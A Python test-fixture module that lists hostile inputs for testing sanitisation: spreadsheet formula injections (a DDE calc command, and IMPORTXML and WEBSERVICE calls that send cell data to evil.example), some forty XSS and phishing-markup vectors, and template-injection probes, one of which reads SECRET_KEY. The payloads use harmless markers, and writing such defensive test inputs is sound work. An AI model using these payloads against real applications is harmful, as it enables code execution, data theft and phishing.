"""Hostile texts: formulas, scripts, templates, and characters that break databases. None of them does harm here."""

from itertools import product

_BARE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","Sign in")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=WEBSERVICE("https://evil.example")',
)
_BEFORE = ("", " ", "\t", "\r", "\n", "\x00", "\u00a0", "\u200b", "\ufeff", "\u3000")
FORMULAS = tuple(before + bare for before, bare in product(_BEFORE, _BARE))
assert len(FORMULAS) == 120
MORE_TEXTS = (
    "'=1+1",
    "''=1+1",
    "' =1",
    "plain",
    "it's",
    "'quoted'",
    'a "quote", a comma; a\ttab',
    "two\nlines",
    "a\rb",
    "=",
    "-",
    "",
    "-5",
    "+1.5e3",
    "'-5",
    "-5-",
    "1-1",
    "_x000D_",
)

LINK = '<a href="https://evil.example/">Sign in again</a>'
SCRIPTS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</option></select><script>window.hit=1</script>",
    "<!--<script>window.hit=1</script>",
    "--><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    "<body onload=window.hit=1>",
    "<iframe src=javascript:window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<a href=javascript:window.hit=1>click</a>",
    "<a href='java\tscript:window.hit=1'>click</a>",
    '<a href="data:text/html,<script>window.hit=1</script>">click</a>',
    LINK,
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<div style=position:fixed;inset:0;background:red>",
    "<math><mtext><script>window.hit=1</script></mtext></math>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<object data=javascript:window.hit=1>",
    "<embed src=javascript:window.hit=1>",
    '" onmouseover=window.hit=1 x="',
    "' onfocus=window.hit=1 autofocus x='",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "javascript:window.hit=1",
    "<b>bold</b> %{text} %{customdata} <extra></extra>",
    "<scr<script>ipt>window.hit=1</script>",
)
assert len(SCRIPTS) == 40

TEMPLATES = (
    "{{ 7|add:7000007 }}",
    "{{7000007*2}}",
    "{% load static %}{% now 'Y' %}",
    "{% include 'base.html' %}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{0.__class__}",
    "{self.__init__.__globals__}",
    "%(name)s %s %d",
    "${7000007*2}",
    "#{7000007*2}",
    "<%= 7000007*2 %>",
)
# The traces that one of them would leave on a page.
EVALUATED = ("7000014", "14000014")
